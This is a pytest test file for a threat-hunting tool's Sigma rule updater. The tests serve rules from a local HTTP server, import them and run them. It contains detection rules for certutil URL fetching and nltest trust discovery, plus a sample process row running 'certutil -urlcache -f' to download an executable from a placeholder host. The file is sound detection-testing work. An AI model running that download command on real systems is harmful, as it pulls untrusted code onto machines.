"""``rules update`` downloads a Sigma release archive over HTTP and imports it.

The release is served by a real HTTP server started here (standard library), from a zip built in
the test out of two rules written in the test, laid out like SigmaHQ's release package
(``rules/<platform>/<category>/*.yml``). The redirect mirrors GitHub's ``releases/latest``.
"""

from __future__ import annotations

import io
import json
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tracehound.store import Store

CERTUTIL_RULE = """\
title: Certutil fetches a URL
id: 6f1d3a52-1111-4aaa-8bbb-000000000001
status: test
level: high
tags: [attack.command-and-control, attack.t1105]
logsource: {category: process_creation, product: windows}
detection:
  sel:
    Image|endswith: '\\\\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: sel
"""

NLTEST_RULE = """\
title: Nltest lists domain trusts
id: 6f1d3a52-1111-4aaa-8bbb-000000000002
status: test
level: medium
tags: [attack.discovery, attack.t1482]
logsource: {category: process_creation, product: windows}
detection:
  sel:
    Image|endswith: '\\\\nltest.exe'
    CommandLine|contains: 'domain_trusts'
  condition: sel
"""


def _archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "rules/windows/process_creation/proc_creation_certutil_url.yml", CERTUTIL_RULE
        )
        archive.writestr(
            "rules/windows/process_creation/proc_creation_nltest_trusts.yml", NLTEST_RULE
        )
        archive.writestr("README.md", "not a rule")
    return buffer.getvalue()


@pytest.fixture
def release_server() -> Iterator[tuple[str, list[str]]]:
    payload = _archive()
    requests: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            if self.path == "/releases/latest/download/sigma_core.zip":
                self.send_response(302)
                self.send_header("Location", "/releases/download/r2099-01-01/sigma_core.zip")
                self.end_headers()
            elif self.path == "/releases/download/r2099-01-01/sigma_core.zip":
                self.send_response(200)
                self.send_header("Content-Type", "application/zip")
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)
            else:
                self.send_error(404)

        def log_message(self, format: str, *args: Any) -> None:  # keep pytest output clean
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", requests
    finally:
        server.shutdown()
        server.server_close()


def test_update_downloads_follows_redirect_and_imports(
    release_server: tuple[str, list[str]], db_path: Path, cli: Any
) -> None:
    base, requests = release_server
    url = f"{base}/releases/latest/download/sigma_core.zip"
    result = cli("rules", "update", "--url", url, "--db", str(db_path), "--format", "json")
    assert result.exit_code == 0, result.stderr
    document = json.loads(result.stdout)
    assert document["converted"] == 2 and document["skipped"] == 0
    assert requests == [
        "/releases/latest/download/sigma_core.zip",
        "/releases/download/r2099-01-01/sigma_core.zip",
    ]
    listed = json.loads(
        cli("rules", "list", "--source", "sigma", "--db", str(db_path), "--format", "json").stdout
    )["rules"]
    assert sorted(r["techniques"] for r in listed) == ["T1105", "T1482"]

    # The imported rules run: one matching process row, one that must stay quiet.
    with Store.open(db_path) as store:
        store.con.execute(
            "CREATE TEMP TABLE th_rows AS SELECT * FROM (VALUES"
            " ('r1', TIMESTAMP '2024-03-04 10:00:00', 'ws1', 'certutil.exe',"
            "  'C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://x/a a.exe'),"
            " ('r2', TIMESTAMP '2024-03-04 10:01:00', 'ws1', 'certutil.exe',"
            "  'C:\\Windows\\System32\\certutil.exe', 'certutil -hashfile a.exe'))"
            " AS t(_RowId, Timestamp, DeviceName, FileName, FolderPath, ProcessCommandLine)"
        )
        store.load_staged("DeviceProcessEvents", "th_rows", "test")
    report = json.loads(
        cli("detect", "--rules", "sigma-*", "--db", str(db_path), "--format", "json").stdout
    )
    evidence = [e["row_id"] for a in report["alerts"] for e in a["evidence"]]
    assert evidence == ["r1"]

    # Updating again re-imports the same rules without duplicating them.
    again = json.loads(
        cli("rules", "update", "--url", url, "--db", str(db_path), "--format", "json").stdout
    )
    assert again["converted"] == 2
    listed = json.loads(
        cli("rules", "list", "--source", "sigma", "--db", str(db_path), "--format", "json").stdout
    )["rules"]
    assert len(listed) == 2


def test_update_reports_a_failed_download(release_server: tuple[str, list[str]], cli: Any) -> None:
    base, _ = release_server
    result = cli("rules", "update", "--url", f"{base}/missing.zip", "--format", "json")
    assert result.exit_code == 1
    assert "cannot download" in result.stderr and "404" in result.stderr
